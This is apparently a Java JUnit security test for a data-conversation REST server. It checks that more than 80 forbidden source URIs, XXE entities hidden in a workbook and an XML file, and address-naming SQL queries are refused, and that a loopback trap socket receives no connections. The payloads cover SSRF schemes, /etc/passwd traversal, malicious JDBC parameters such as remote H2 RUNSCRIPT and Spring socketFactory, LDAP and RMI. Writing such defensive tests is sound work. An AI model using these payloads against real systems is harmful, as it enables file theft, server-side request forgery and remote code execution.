package io.github.bigdatamigrator.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.bigdatamigrator.LLMConversationSystem;
import io.github.bigdatamigrator.Settings;
import io.github.bigdatamigrator.fixture.SharedSpark;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Names addresses over HTTP that the operator has not allowed, all of them on a socket of this test, which counts who
 * connects.
 */
@Tag("spark")
class ForbiddenSourcesTest {
    /** HOST is the address of the socket. */
    private static final List<String> FORBIDDEN = List.of(
            "http://HOST/x.csv",
            "HTTP://HOST/x.csv",
            "https://HOST/x.csv",
            "http:/HOST/x.csv",
            "http:HOST/x.csv",
            "http://user@HOST/x.csv",
            "http://user:planted@HOST/x.csv",
            "http://HOST/redirect?to=http://HOST/",
            "http://HOST/*.csv",
            "http://HOST/book.xlsx#Sheet1",
            " http://HOST/x.csv",
            "\thttp://HOST/x.csv",
            "ftp://HOST/x.csv",
            "ftp://user:planted@HOST/x.csv",
            "sftp://user@HOST/x.csv",
            "hdfs://HOST/x.csv",
            "HDFS://HOST/x.csv",
            "hdfs://HOST/*",
            "webhdfs://HOST/x.csv",
            "swebhdfs://HOST/x.csv",
            "hftp://HOST/x.csv",
            "s3://HOST/x.csv",
            "s3n://HOST/x.csv",
            "s3a://HOST/x.csv",
            "s3a://bucket/x.csv?endpoint=http://HOST",
            "s3a://AKIA:planted@HOST/x.csv",
            "abfss://data@HOST/x.csv",
            "abfs://data@HOST/x.csv",
            "wasb://data@HOST/x.csv",
            "wasbs://data@HOST/x.csv",
            "adl://HOST/x.csv",
            "gs://HOST/x.csv",
            "oss://HOST/x.csv",
            "obs://HOST/x.csv",
            "cosn://HOST/x.csv",
            "ofs://HOST/x.csv",
            "o3fs://bucket.volume.HOST/x.csv",
            "har://hdfs-HOST/a.har/x.csv",
            "har://http-HOST/a.har/x.csv",
            "har:///etc/a.har/x.csv",
            "viewfs://HOST/x.csv",
            "viewfs:/HOST/x.csv",
            "jar:http://HOST/a.jar!/x.csv",
            "jar:file:/etc/a.jar!/x.csv",
            "local:/etc/passwd",
            "file://HOST/etc/passwd",
            "file://localhost/etc/passwd",
            "file:/etc/passwd",
            "file:etc/passwd",
            "file:///../etc/passwd",
            "file:/%2e%2e/etc/passwd",
            "FILE:/etc/passwd",
            "//HOST/share/x.csv",
            "\\\\HOST\\share\\x.csv",
            "/etc/passwd",
            "../../../../../../etc/passwd",
            "jdbc:postgresql://HOST/db#public.t",
            "JDBC:postgresql://HOST/db#public.t",
            "jdbc:postgresql://HOST/db?user=ann&password=planted#public.t",
            "jdbc:postgresql://HOST/db?socketFactory=org.springframework.context.support"
                    + ".ClassPathXmlApplicationContext&socketFactoryArg=http://HOST/x.xml#t",
            "jdbc:postgresql://HOST/db?sslfactory=Evil&sslfactoryarg=x#t",
            "jdbc:postgresql://HOST/db?loggerLevel=DEBUG&loggerFile=/tmp/x#t",
            "jdbc:mysql://HOST/db?allowLoadLocalInfile=true&allowUrlInLocalInfile=true#t",
            "jdbc:mysql://HOST/db?autoDeserialize=true&queryInterceptors=Evil#t",
            "jdbc:mariadb://HOST/db#t",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://HOST/x.sql'#t",
            "jdbc:h2:tcp://HOST/x#t",
            "jdbc:sqlserver://HOST;databaseName=x#dbo.t",
            "jdbc:oracle:thin:@HOST:x#t",
            "jdbc:oracle:thin:@ldap://HOST/x,cn=y#t",
            "jdbc:db2://HOST/x:traceFile=/tmp/x;#t",
            "jdbc:derby://HOST/x;create=true#t",
            "jdbc:sqlite:http://HOST/x.db#t",
            "jdbc:teradata://HOST/x#t",
            "jdbc:databricks://HOST:443;httpPath=x#t",
            "db:crm#public.t",
            "db:#t",
            "table:sales.orders",
            "table:parquet.`http://HOST/x`",
            "table:csv.`/etc/passwd`",
            "dataframe:sales",
            "delta:http://HOST/x",
            "delta:s3a://HOST/x@v1",
            "delta:/etc",
            "delta:file:/etc",
            "delta:table:x",
            "ldap://HOST/x",
            "rmi://HOST/x",
            "gopher://HOST/x",
            "dict://HOST/x",
            "data:text/csv,a,b",
            "classpath:x.csv",
            "unknown://HOST/x.csv",
            "a+b.c-d://HOST/x.csv");

    private final AtomicInteger connections = new AtomicInteger();
    private ServerSocket trap;
    private LLMConversationSystem system;
    private RestServer server;
    private ServerClient client;

    @TempDir
    Path folder;

    @BeforeEach
    void serve() throws IOException {
        trap = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread counting = new Thread(() -> {
            while (!trap.isClosed()) {
                try {
                    trap.accept().close();
                    connections.incrementAndGet();
                } catch (IOException e) {
                    return; // closed
                }
            }
        });
        counting.setDaemon(true);
        counting.start();
        Settings settings = Settings.of(
                Map.of(),
                Map.of(
                        "LOCAL_LLM_MODEL",
                        "none",
                        "PROFILE_CACHE_DIR",
                        "off",
                        "CONNECTIONS_FILE",
                        folder.resolve("none.yaml").toString(),
                        "CONVERSATION_DIR",
                        folder.resolve("kept").toString()),
                null);
        system = LLMConversationSystem.open(settings, SharedSpark.session());
        Path roots = Files.createDirectories(folder.resolve("roots"));
        server = RestServer.start(system, settings, "127.0.0.1", 0, roots, SlowBodyGuard.MinimumRate.USUAL);
        client = new ServerClient(server.url());
    }

    @AfterEach
    void stop() throws IOException {
        server.close();
        system.close();
        trap.close();
    }

    private String host() {
        return "127.0.0.1:" + trap.getLocalPort();
    }

    private HttpResponse<String> named(String source) throws Exception {
        return client.post("/llm/conversations", Map.of("data_files", List.of(source)));
    }

    @Test
    void everyOtherSourceIsForbiddenAndNoneIsConnectedTo() throws Exception {
        assertThat(FORBIDDEN).doesNotHaveDuplicates().hasSizeGreaterThan(80);
        List<String> answered = new ArrayList<>();
        for (String source : FORBIDDEN) {
            HttpResponse<String> reply = named(source.replace("HOST", host()));
            if (reply.statusCode() != 403 || reply.body().contains("planted")) {
                answered.add(source + " → " + reply.statusCode() + " " + reply.body());
            }
        }
        assertThat(answered).isEmpty();
        assertThat(system.conversations()).isEmpty();
        assertThat(connections).hasValue(0);
    }

    @Test
    void filesThatReferToOtherAddressesAreReadWithoutThem() throws Exception {
        String entity = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"http://" + host()
                + "/e\"><!ENTITY % p SYSTEM \"http://" + host() + "/p\"> %p;]>";
        Path roots = folder.resolve("roots");
        workbook(roots.resolve("book.xlsx"), entity);
        Files.writeString(roots.resolve("rows.xml"), entity + "<rows><row><a>&e;</a></row><row><a>2</a></row></rows>");
        Files.writeString(roots.resolve("links.csv"), "id,link\n1,http://" + host() + "/x.csv\n2,s3a://b/x\n");
        for (String name : List.of("book.xlsx", "rows.xml", "links.csv")) {
            HttpResponse<String> reply = named(name);
            if (reply.statusCode() == 201) {
                String id = ServerClient.served(201, reply).path("id").asText();
                // Waits for the profile.
                client.post("/llm/conversations/" + id + "/query", Map.of("sql", "SELECT 1"));
            }
        }
        assertThat(system.conversations()).isNotEmpty();
        assertThat(connections).hasValue(0);
    }

    @Test
    void sqlCannotNameAnAddressEither() throws Exception {
        Files.writeString(folder.resolve("roots/sales.csv"), "id\n1\n2\n");
        String id = ServerClient.served(201, named("sales.csv")).path("id").asText();
        for (String sql : List.of(
                "SELECT * FROM csv.`http://HOST/x`",
                "SELECT * FROM parquet.`s3a://HOST/x`",
                "SELECT * FROM jdbc.`jdbc:postgresql://HOST/x`",
                "SELECT * FROM read_files('http://HOST/x')",
                "SELECT * FROM delta.`hdfs://HOST/x`",
                "CREATE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:postgresql://HOST/x', dbtable 't')",
                "SELECT java_method('java.net.URI', 'create', 'http://HOST/x')")) {
            HttpResponse<String> reply =
                    client.post("/llm/conversations/" + id + "/query", Map.of("sql", sql.replace("HOST", host())));
            assertThat(reply.statusCode()).as(sql + reply.body()).isBetween(400, 499);
        }
        assertThat(connections).hasValue(0);
    }

    /** A workbook whose parts have the document type before them. */
    private static void workbook(Path file, String type) throws IOException {
        Map<String, String> parts = Map.of(
                "[Content_Types].xml",
                        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>",
                "xl/workbook.xml",
                        "<workbook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                                + "<sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>",
                "xl/_rels/workbook.xml.rels",
                        "<Relationships><Relationship Id=\"r1\" Type=\"worksheet\""
                                + " Target=\"worksheets/sheet1.xml\"/></Relationships>",
                "xl/worksheets/sheet1.xml",
                        "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&e;</t></is></c></row>"
                                + "</sheetData></worksheet>");
        try (OutputStream out = Files.newOutputStream(file);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write((type + part.getValue()).getBytes(StandardCharsets.UTF_8));
            }
        }
    }
}
